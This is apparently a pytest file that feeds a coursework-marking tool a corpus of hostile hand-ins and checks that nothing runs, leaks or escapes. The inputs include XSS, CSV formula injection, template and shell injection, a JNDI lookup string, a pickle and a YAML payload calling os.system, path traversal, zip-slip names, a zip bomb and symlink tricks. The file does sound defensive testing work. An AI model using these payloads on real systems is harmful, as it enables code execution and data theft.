"""
A corpus of hostile hand-ins, marked beside honest ones from a folder and from a ZIP.

None runs code, reads or writes outside, breaks the run, or reaches a table or a page
as a formula or as markup.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from pathlib import Path
from socket import AF_UNIX, socket
from typing import TYPE_CHECKING
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pytest
from msgspec.structs import replace

from tests.support.command import ALL, rows, run, snapshot
from tests.support.soap import (
    answer_rightly,
    make_attempts,
    make_course,
    make_hand_in,
    name_sheet,
    write_hand_in,
)
from workbook.solver.source import CourseSource
from workbook.wire.answer import Answer, Built, Derived, Filled, Filling, Typed
from workbook.wire.handin import HandIn, digest

if TYPE_CHECKING:
    from collections.abc import Mapping

#: Stands in a file outside the hand-ins, and must end nowhere.
CANARY = "kingfisher-1723"

TEXTS = (
    "__import__('pathlib').Path('owned').touch()",
    "{{ 7 * 7 }}{% import os %}",
    "$(touch owned); `touch owned`",
    "<script>fetch('//x')</script><img src=x onerror=alert(1)>",
    "</style></title><svg/onload=alert(1)>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//x"&A1)',
    "@SUM(1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "9" * 50_000 + " g",
    "1e999999999 g",
    "((((" * 5_000,
    "\x00\x1b[2J\x1b]0;owned\x07",
    "\u202ecod.exe g",
    "${jndi:ldap://x/a}",
    "../../../../canary.txt",
)


def put(answer: Answer, text: str) -> Answer:
    """Return an answer of the same kind with another text."""
    made = answer
    match answer:
        case Typed():
            made = Typed(text)
        case Built(factors=factors):
            made = Built(factors, text)
        case Derived():
            made = Derived((text, "x = x", text), text)
        case Filled(cells=cells):
            made = Filled(tuple(Filling(c.row, c.column, text) for c in cells), "lye")
    return made


def forge(hand_in: HandIn) -> HandIn:
    """Fit the fingerprint to a content; the seal is left out, as anybody can."""
    mark = digest(hand_in.sheet, hand_in.attempts, hand_in.at)
    return replace(hand_in, digest=mark, seal="")


def make_nasty(source: CourseSource, student: str, last: str) -> bytes:
    """Return a hand-in that is accepted, with every text, one of them the latest."""
    right = answer_rightly(source.case(name_sheet(student)))
    texts = [text for text in TEXTS if not text.startswith(last)]
    texts += [text for text in TEXTS if text.startswith(last)]
    given = [
        (step, put(answer, text)) for text in texts for step, answer in right.items()
    ]
    plain = make_hand_in(source, student, {})
    made = forge(replace(plain, attempts=make_attempts(given)))
    return write_hand_in(made, Path("nasty.tmp")).read_bytes()


def make_corpus(source: CourseSource) -> Mapping[str, bytes]:
    """Return contents of files, by name."""
    right = answer_rightly(source.case(name_sheet("c3")))
    place = Path("nasty.tmp")
    made = {
        "markup": make_nasty(source, "b2", "<script"),
        "formula": make_nasty(source, "c3", "=HYPERLINK"),
    }
    good = write_hand_in(make_hand_in(source, "c3", right), place).read_bytes()
    place.unlink()
    sheet = json.dumps({"course": "<b>", "lab": "=1", "revision": 1, "student": "../x"})
    head = b'{"version":1,"sheet":' + sheet.encode() + b',"attempts":'
    return made | {
        "cut": good[:-100],
        "deep": b'{"version":1,"sheet":' + b"[" * 500_000,
        "deep-objects": b'{"a":' * 200_000,
        "huge-number": b'{"version":' + b"9" * 1_000_000 + b"}",
        "float": b'{"version":1e400}',
        "foreign": head + b'[],"at":"2026-03-02T12:00:00Z","digest":"","seal":""}',
        "zeros": b"\x00" * 10_000,
        "bytes": good.replace(b"saponification", b"\xff\xfe\xfd"),
        "surrogate": good.replace(b"304.45 g/mol", rb"\ud800"),
        "changed": good.replace(b"304.45 g/mol", b"304.46 g/mol"),
        "older": good.replace(b"2026-", b"2025-"),
        "pickle": b"cos\nsystem\n(S'touch owned'\ntR.",
        "yaml": b"!!python/object/apply:os.system ['touch owned']",
        "=1+1": b"",
        "<script>alert(1)</script>": b"",
        "a\x1b[2J": b"",
        "CON": b"{}",
        "n" * 240: b"{}",
        "\u202enosj.exe": b"{}",
        # The same to an eye, and to some file systems: capitals, and two spellings.
        "\u00e9": b"{}",
        "e\u0301": b"{}",
        "\u00c9": b"{}",
        "twice": good.rstrip()[:-1] + b',"sheet":' + sheet.encode() + b"}",
    }


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a course, in a folder with a file that no hand-in may read."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "canary.txt").write_text(CANARY)
    return make_course(tmp_path)


def fill_folder(course: Path, folder: Path) -> None:
    """Write the corpus and an honest hand-in, with links and a pipe among them."""
    source = CourseSource(course)
    folder.mkdir()
    for name, content in make_corpus(source).items():
        safe = name.replace("/", "\u2215")
        (folder / f"{safe}.handin.json").write_bytes(content)
    right = answer_rightly(source.case(name_sheet("a1")))
    write_hand_in(make_hand_in(source, "a1", right), folder / "a1.handin.json")
    (folder / "link.handin.json").symlink_to(course.parent / "canary.txt")
    (folder / "endless.handin.json").symlink_to("/dev/zero")
    (folder / "loop").symlink_to(folder)
    (folder / "folder.handin.json").mkdir()
    os.mkfifo(folder / "pipe.handin.json")
    with socket(AF_UNIX) as heard:
        heard.bind(os.path.relpath(folder / "socket.handin.json"))
    buried = folder.joinpath(*["d"] * 150)
    buried.mkdir(parents=True)
    (buried / "x.handin.json").write_bytes(b"{}")


def fill_zip(course: Path, path: Path) -> None:
    """Write the same to a ZIP, with names that lead out of it, links and a bomb."""
    source = CourseSource(course)
    right = answer_rightly(source.case(name_sheet("a1")))
    place = write_hand_in(make_hand_in(source, "a1", right), Path("a1.tmp"))
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for name, content in make_corpus(source).items():
            archive.writestr(f"{name}.handin.json", content)
        archive.write(place, "a1.handin.json")
        for name in ("../out", "/out", "C:\\out", "..\\..\\out"):
            archive.writestr(f"{name}.handin.json", b"{}")
        archive.writestr("bomb.handin.json", b" " * 30_000_000)
        archive.writestr("inner.zip", b"PK\x05\x06" + b"\x00" * 18)
        link = ZipInfo("link.handin.json")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "canary.txt")
    place.unlink()


@pytest.mark.parametrize(("place", "fill"), [("in", fill_folder), ("in.zip", fill_zip)])
def test_a_hostile_hand_in_costs_nobody_anything(
    course: Path, place: str, fill: object
) -> None:
    assert callable(fill)
    fill(course, Path(place).absolute())
    before = snapshot(course.parent)
    result = run("mark", course, "--handins", place, "--to", "marks")
    assert result.exit_code == 1
    after = snapshot(course.parent)
    made = {name: c for name, c in after.items() if name.startswith("marks/")}
    assert {name: c for name, c in after.items() if name not in made} == before
    points = {row["student"]: row["points"] for row in rows(Path("marks/marks.csv"))}
    assert points["a1"] == ALL
    check_outputs(made, result.output)


def check_outputs(made: Mapping[str, bytes], said: str) -> None:
    """Look through every table and page for what must not be in them."""
    assert "\x1b" not in said
    assert all(CANARY.encode() not in content for content in made.values())
    assert {"marks/marks.csv", "marks/steps.csv", "marks/problems.csv"} <= made.keys()
    for name, content in made.items():
        text = content.decode("utf-8")
        if name.endswith(".csv"):
            cells = [c for row in csv.reader(text.splitlines()) for c in row]
            assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]
        if name.endswith(".html"):
            assert not re.search(r"<script>(alert|fetch)|<img src=x|<svg/onload", text)
    # What was typed is there all the same, as a text.
    assert b"'=HYPERLINK" in made["marks/steps.csv"]
    assert any(b"&lt;script&gt;fetch" in content for content in made.values())
